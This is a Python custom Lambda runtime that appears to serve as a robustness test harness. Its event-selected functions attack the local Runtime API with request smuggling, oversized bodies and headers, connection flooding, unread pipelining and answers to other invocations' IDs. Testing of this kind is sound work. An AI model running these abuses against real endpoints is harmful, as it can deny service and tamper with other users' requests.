#!/usr/bin/env python3
"""A custom runtime that abuses the Runtime API: the event names what it does before it answers in order."""

import http.client
import json
import os
import socket
import time

HOST, _, PORT = os.environ["AWS_LAMBDA_RUNTIME_API"].rpartition(":")
ROOT = "/2018-06-01/runtime/invocation"


def _call(method, path, body=None, headers=None):
    connection = http.client.HTTPConnection(HOST, int(PORT), timeout=60)
    connection.request(method, path, body, headers or {})
    response = connection.getresponse()
    answer = response.status, dict(response.getheaders()), response.read()
    connection.close()
    return answer


def _raw(octets, wait=1.0):
    with socket.create_connection((HOST, int(PORT))) as attacker:
        attacker.settimeout(wait)
        try:
            attacker.sendall(octets)
            return attacker.recv(4096)
        except OSError:
            return b""


def another_id(request_id):
    """Answer an invocation that is not the own one."""
    return _call("POST", f"{ROOT}/{request_id[:-4]}0000/response", b'"planted"')[0]


def next_amid(request_id):
    """Ask for the next one before this one is answered."""
    return _call("GET", f"{ROOT}/next")[0]


def huge_response(request_id):
    """Answer with 80 MB."""
    return _call("POST", f"{ROOT}/{request_id}/response", b"x" * (80 << 20))[0]


def endless_header(request_id):
    """Send a header field that does not end."""
    return len(_raw(b"POST / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * (8 << 20)))


def smuggled(request_id):
    """Send two framings of one body."""
    request = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    return _raw(request).partition(b"\r\n")[0].decode()


def many_connections(request_id):
    """Open connections and say nothing."""
    opened = []
    try:
        for _ in range(900):
            opened.append(socket.create_connection((HOST, int(PORT)), timeout=1))
    except OSError:
        pass
    time.sleep(0.5)
    for attacker in opened:
        attacker.close()
    return len(opened)


def never_reading(request_id):
    """Pipeline requests and never read the answers."""
    with socket.create_connection((HOST, int(PORT))) as attacker:
        attacker.settimeout(2)
        try:
            for _ in range(20_000):
                attacker.sendall(b"GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n")
        except OSError:
            pass
    return 0


def many_bodies(request_id):
    """Send the answer on many connections, and its end on none."""
    opened = []
    for _ in range(60):
        try:
            attacker = socket.create_connection((HOST, int(PORT)), timeout=0.05)
            opened.append(attacker)
            head = f"POST {ROOT}/{request_id}/response HTTP/1.1\r\nHost: x\r\nContent-Length: 6000000\r\n\r\n"
            attacker.sendall(head.encode() + b"x" * 5_900_000)
        except OSError:
            pass
    time.sleep(0.5)
    for attacker in opened:
        attacker.close()
    return len(opened)


ABUSES = {
    abuse.__name__: abuse
    for abuse in (
        another_id,
        next_amid,
        huge_response,
        endless_header,
        smuggled,
        many_bodies,
        many_connections,
        never_reading,
    )
}


while True:
    _, fields, event = _call("GET", f"{ROOT}/next")
    own_id = fields["Lambda-Runtime-Aws-Request-Id"]
    name = json.loads(event).get("abuse")
    outcome = ABUSES[name](own_id) if name else None
    if name != "huge_response":
        _call("POST", f"{ROOT}/{own_id}/response", json.dumps({"outcome": outcome}).encode())
